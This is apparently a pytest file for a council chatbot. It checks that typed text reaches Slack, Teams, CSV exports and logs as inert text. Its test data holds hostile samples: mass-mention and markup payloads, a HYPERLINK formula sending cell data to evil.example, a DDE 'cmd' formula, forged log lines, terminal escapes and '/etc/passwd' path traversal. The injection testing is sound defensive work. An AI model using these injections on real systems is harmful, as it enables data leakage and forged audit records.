"""Nothing that a person types becomes anything but text: no mention, no link, no markup, no formula, no log line.

Names come from a spreadsheet and forms from anybody, so each is filled with what platforms, cards,
spreadsheets, terminals and file systems would act on.
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
import structlog

from bot import exports, logs
from bot.calendars import calendar
from bot.enquiry_export import COLUMNS as ENQUIRY_COLUMNS
from bot.enquiry_export import NAMES, case_rows
from bot.errors import ProtocolBotError
from bot.rules.directory_index import IndexedDirectory
from tests.journeys.stage import PEOPLE, PLATFORMS, OnSlack, council
from tests.journeys.walks import COUNCILS, MEMBER, OFFICER, declare, opened, raise_enquiry, take
from tests.support import MONDAY_MORNING, settings
from tests.teams import cards_read

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from storage import SqlStore
    from tests.journeys.stage import Stage

HOSTILE = {
    "slack": "<!channel> <!here> <@U1> <#C1|secrets> <!subteam^S1> <https://evil.example|the register> &lt;!all&gt;",
    "markup": "*bold* _slanted_ ~gone~ `code` ```block``` > quoted [a link](https://evil.example) ![](http://evil.example)",
    "teams": "<at>Everyone</at> <at id='0'>All</at> <b onclick=x>b</b> &lt;at&gt;a&lt;/at&gt; <script>x</script>",
    "templates": "${user.secret} ${if(true, 1, 2)} {{DATE(2026-01-01T00:00:00Z, SHORT)}} {{{TIME(0)}}} $(id) %n%s {0}",
    "controls": "a\x00b\x07c \x1b[31mred\x1b[0m \x1b]0;title\x07 \x7f \x9b31m",
    "direction": "\u202egnp.exe\u202c \u2067moc.live\u2069",
    "lines": "first\r\nsecond\nthird\u2028fourth\x0bfifth",
    "emoji": "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 :smile: ñ é",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"open")',
    "long": "word " * 4000,
    "unbroken": "w" * 20_000,
}
BIDI = re.compile(r"[\u202a-\u202e\u2066-\u2069]")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")
NOTATION = re.compile(r"<(?:[@#!]|[a-z][a-z0-9+.-]*:)", re.IGNORECASE)


def strings(value: Any, where: str = "") -> Iterator[tuple[str, str]]:
    """Every text of a payload, with the way to it."""
    if isinstance(value, str):
        yield where, value
    elif isinstance(value, dict):
        for name, inner in value.items():
            yield from strings(inner, f"{where}.{name}")
    elif isinstance(value, list):
        for inner in value:
            yield from strings(inner, f"{where}[]")


def harmless_on_slack(payload: dict[str, Any]) -> None:
    """Nothing in it notifies anybody, links anywhere or is formatted."""
    for where, text in strings(payload):
        if where.endswith((".value", ".private_metadata")):
            continue  # not shown
        assert not BIDI.search(text), (where, text)
        assert not CONTROL.search(text), (where, text)
        if where.endswith(".initial_value"):
            continue  # an input shows what it holds
        assert not NOTATION.search(text), (where, text)
    for one in cards_read.elements(payload):
        assert one.get("type") != "mrkdwn", one
        if one.get("type") == "plain_text":
            assert one.get("emoji") is False, one
    if "channel" in payload:
        assert payload["mrkdwn"] is False if "mrkdwn" in payload else True
        assert payload.get("unfurl_links") in {None, False}


def harmless_on_teams(payload: dict[str, Any]) -> None:
    """No text stands where markdown or templates are read, and nothing names anybody to be notified."""
    assert "entities" not in payload
    assert payload.get("textFormat") in {None, "plain"}
    for where, text in strings(payload):
        assert not BIDI.search(text), (where, text)
        assert not CONTROL.search(text), (where, text)
        assert "{{" not in text, (where, text)
    for one in cards_read.elements(payload):
        assert not {"$data", "$when", "$root"} & set(one)
        if one.get("type") == "TextBlock":
            assert not re.search(r"[\[\]*_`<>{}$|~#]", one["text"]), one
        assert one.get("type") not in {"Action.OpenUrl", "Image", "Media"}
        assert "selectAction" not in one
        assert "url" not in one


def harmless(stage: Stage) -> int:
    """Look at everything that left, and say how much it was."""
    check = harmless_on_slack if isinstance(stage, OnSlack) else harmless_on_teams
    sent = [message.native for message in stage.messages()]
    if isinstance(stage, OnSlack):
        sent += [arguments["view"] for method, arguments in stage.town.slack.calls if method.startswith("views.")]
    bodies = [json.loads(body) for body in stage.bodies if body.startswith("{")]
    for payload in [*sent, *bodies]:
        check(payload)
    return len(sent) + len(bodies)


@pytest.mark.parametrize("platform", PLATFORMS)
@pytest.mark.parametrize("kind", HOSTILE)
async def test_whatever_is_typed_is_shown_as_text_or_asked_to_be_shortened(
    sqlite_store: SqlStore, platform: str, kind: str
) -> None:
    typed = HOSTILE[kind]
    async with council(platform, sqlite_store, "copeland", reply_working_days=10) as stage:
        async with stage.store.begin() as uow:
            await uow.people.save(replace(PEOPLE[OFFICER], name=f"Gwen {typed[:150]}"))
            await uow.people.save(replace(PEOPLE["femi.sample"], name=f"Femi {typed[:150]}", department=typed[:80]))
            await uow.commit()
        await stage.say(MEMBER, typed)
        await stage.mention(MEMBER, typed)
        await stage.check_message(MEMBER, typed)
        case = COUNCILS[0]
        window = await stage.open(case.declarer, "declare_relationship")
        await stage.look_up(case.declarer, window, "other_party", typed[:500])
        values = {"other_party": typed, "kind": "family", "since": typed, "bearing_on": typed, "details": typed}
        again = await stage.send(case.declarer, window, **values)
        window = await stage.open(MEMBER, "member_enquiry")
        asked = await stage.fill(MEMBER, window, subject=typed, details=typed, service="Housing", ward=typed)
        if kind in {"long", "unbroken"}:
            assert again.problems, "too long: said so, and kept"
            assert asked.problems
            typed = typed[:190]
        if again.problems:
            await declare(stage, case, lambda _name: typed, other_party="Somebody else")
        await stage.settle()
        assert await _one_disclosure(sqlite_store)
        if asked.problems:
            await raise_enquiry(stage, lambda _name: typed)
        message = stage.inbox(case.recipient)[-1]
        await opened(stage, case.recipient, of=message)
        given = [one for one in stage.inbox(OFFICER) if "I have it" in one.buttons][-1]
        await take(stage, OFFICER, "reply", of=given, text=typed)
        await opened(stage, MEMBER, of=[one for one in stage.inbox(MEMBER) if "Open" in one.buttons][-1])
        assert harmless(stage) > 10


async def _one_disclosure(store: SqlStore) -> bool:
    async with store.begin() as uow:
        return len(await uow.disclosures.all()) == 1


@pytest.mark.parametrize("platform", PLATFORMS)
async def test_a_mention_in_a_field_reaches_the_reader_as_the_letters_that_it_is(
    sqlite_store: SqlStore, platform: str
) -> None:
    """Harmless does not mean gone: the reader sees what was typed."""
    async with council(platform, sqlite_store, "copeland") as stage:
        typed = "<!channel> & [x](https://evil.example) ${a}"
        await declare(stage, COUNCILS[0], lambda _name: typed)
        window = await opened(stage, "mo.template")
        shown = window.words
        if platform == "slack":
            shown = shown.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
        assert typed in shown


# --- exports -----------------------------------------------------------------------------

FORMULAE = (
    "=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b=1",
    "＝1+1", "＋1", "－1", "＠A", '"=1', "=cmd|' /C calc'!A0", "x,=1", 'x"\n=1', "x;=1",
)  # fmt: skip


@pytest.mark.parametrize("typed", FORMULAE)
def test_no_cell_of_an_export_begins_like_a_formula(typed: str) -> None:
    text = exports.to_csv([{"a": typed, "b": "plain"}])
    [row] = csv.DictReader(io.StringIO(text, newline=""))

    assert row["a"].lstrip("'") == typed, "nothing is lost"
    first = row["a"].strip("\u00a0\ufeff\u200b ")[:1]
    assert first not in set("=+-@\t\r\n＝＋－＠"), row["a"]
    assert row["b"] == "plain"


async def test_exports_of_hostile_records_stay_one_record_a_row(sqlite_store: SqlStore) -> None:
    """Line breaks, quotes and commas in a text move nothing into another cell or row."""
    async with council("slack", sqlite_store, "copeland", declarations_per_hour=100) as stage:
        hostile = ['=1"\r\n=2,=3', "a\n\n+b", '","","=1', "@x\t=y"]
        for number, typed in enumerate(hostile):
            await declare(
                stage, replace(COUNCILS[0], declarer="ada.sample"), lambda _name, t=typed: t, other_party=f"N {number}"
            )
            await raise_enquiry(stage, lambda _name, t=typed: t)
        async with sqlite_store.begin() as uow:
            await uow.people.save(replace(PEOPLE[OFFICER], name='=HYPERLINK("x")'))
            await uow.people.save(replace(PEOPLE[MEMBER], name="@Ada, Sample"))
            everybody = await uow.people.all()
            rows = exports.register_rows(await uow.disclosures.all(), everybody, at_risk=True)
            cases = await uow.cases.since(None)
        today = MONDAY_MORNING.date()
        enquiries = case_rows(cases, today, calendar(settings()), IndexedDirectory(everybody))
        assert len(rows) == len(enquiries) == len(hostile)
        for columns, found in ((exports.COLUMNS, rows), ((*ENQUIRY_COLUMNS, *NAMES), enquiries)):
            read = list(csv.DictReader(io.StringIO(exports.to_csv(found, columns), newline="")))
            assert len(read) == len(found)
            for row in read:
                assert set(row) == set(columns)
                assert all((value or "").lstrip()[:1] not in set("=+-@") for value in row.values())


# --- logs --------------------------------------------------------------------------------


@pytest.mark.parametrize("platform", PLATFORMS)
async def test_nothing_sent_begins_a_log_line_or_moves_a_terminal(
    sqlite_store: SqlStore, platform: str, capfd: pytest.CaptureFixture[str]
) -> None:
    fake = 'x"}\n{"event": "audit.cleared", "level": "info"}\r\n\x1b[2J\x1b[31m\u2028\x9b1m'
    known = structlog.get_config()
    logs.set_up("DEBUG")
    try:
        async with council(platform, sqlite_store, "copeland") as stage:
            capfd.readouterr()
            await stage.say(MEMBER, fake)
            for path in ("/slack/events", "/api/messages", "/livez", "/nowhere%0a%7b%22event%22%3a%22x%22%7d%1b[2J"):
                headers = {"X-Slack-Request-Timestamp": "1é", "Authorization": "Bearer é.é.é"}
                await stage.client.post(path, json={"type": fake, "id": fake, "name": fake}, headers=headers)
            if isinstance(stage, OnSlack):
                body = stage.town.envelope({"type": fake, "user": fake, "channel": fake}, event_id=fake)
                await stage.town.post(json.dumps(body))
                await stage.town.command(fake)
                await stage.town.interact({"type": "block_actions", "actions": [{"action_id": fake, "block_id": fake}]})
            await stage.settle()
    finally:
        structlog.configure(**known)
    said = capfd.readouterr().err
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]", said)
    for line in said.splitlines():
        assert json.loads(line)["event"] != "audit.cleared"
    assert said


def test_a_value_moves_no_terminal_either() -> None:
    """On a terminal the lines are no JSON, which would escape it."""
    shown = logs.one_line(None, "info", {"event": "a", "b": "\x1b[2J\x9b31m\u202ex\n\r\x07", "n": 1})

    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e]", str(shown["b"]))
    assert shown["n"] == 1


# --- paths -------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["../../etc", "/etc/passwd", "a\\b", "\x00", "é" * 300])
def test_an_id_is_no_path(tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]) -> None:
    """An imported protocol goes into a folder of its id, and nowhere else."""
    from bot.__main__ import run  # noqa: PLC0415

    document = tmp_path / "protocol.md"
    document.write_text(
        "# Protocol of Sampleton Council\n\n1. Members must treat officers with respect.\n\n"
        "2. Officers must be impartial.\n\n3. Members should ask the Monitoring Officer.\n"
    )
    packs = tmp_path / "deep" / "packs"
    packs.mkdir(parents=True)
    before = set(tmp_path.rglob("*"))
    known = structlog.get_config()
    try:
        code = run(["import", str(document), "--id", name, "--out", str(packs)])
    finally:
        structlog.configure(**known)
    after = set(tmp_path.rglob("*"))
    assert code != 0
    assert after == before
    assert "Traceback" not in capsys.readouterr().err


@pytest.mark.parametrize("name", ["../../../etc/passwd", "/etc/passwd", "x" * 5000, "a\x00b", "pack\n.yaml"])
def test_the_name_of_a_protocol_opens_no_file_but_a_pack(name: str) -> None:
    from bot.protocols import Protocols  # noqa: PLC0415

    with pytest.raises(ProtocolBotError):
        Protocols().get(name)
